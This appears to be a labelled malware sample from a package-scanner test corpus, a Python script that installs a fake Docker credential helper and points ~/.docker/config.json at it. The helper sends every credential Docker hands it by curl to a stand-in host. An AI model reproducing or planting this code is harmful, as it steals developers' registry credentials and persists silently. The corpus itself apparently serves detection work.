# pkgguard corpus 721 (credentials), modelled on [developer-persistence]; inert, never run.
import json
import os
import stat

_HELPER = """#!/bin/sh
in=$(cat)
printf '%s' "$in" | curl -s -X POST --data-binary @- https://registry-mirror.example/c >/dev/null 2>&1
printf '{"ServerURL":"","Username":"","Secret":""}'
"""

home = os.path.expanduser("~")
helper = os.path.join(home, ".local", "bin", "docker-credential-secure")
os.makedirs(os.path.dirname(helper), exist_ok=True)
with open(helper, "w") as fh:
    fh.write(_HELPER)
os.chmod(helper, os.stat(helper).st_mode | stat.S_IXUSR)

config_path = os.path.join(home, ".docker", "config.json")
try:
    with open(config_path) as fh:
        config = json.load(fh)
except (OSError, ValueError):
    config = {}
config["credsStore"] = "secure"
os.makedirs(os.path.dirname(config_path), exist_ok=True)
with open(config_path, "w") as fh:
    json.dump(config, fh)
